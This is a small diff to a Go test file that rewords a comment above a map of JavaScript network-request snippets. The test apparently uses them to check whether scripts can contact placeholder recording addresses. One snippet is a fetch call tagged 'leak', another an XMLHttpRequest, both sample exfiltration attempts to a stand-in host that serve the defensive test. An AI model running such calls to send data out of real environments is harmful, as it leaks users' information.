@@ -99,7 +99,7 @@ func listenEverywhere(t *testing.T) *catcher {
 	return l
 }
 
-// attempts are ways for a script to reach out. HTTP and BARE stand for addresses that record whatever reaches them.
+// attempts are ways for a script to reach out. HTTP and BARE are placeholders of addresses that record whatever reaches them.
 var attempts = map[string]string{
 	"fetch":          `await fetch("HTTP/fetch?leak", {mode: "no-cors"})`,
 	"XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("GET", "HTTP/xhr", false); x.send()`,
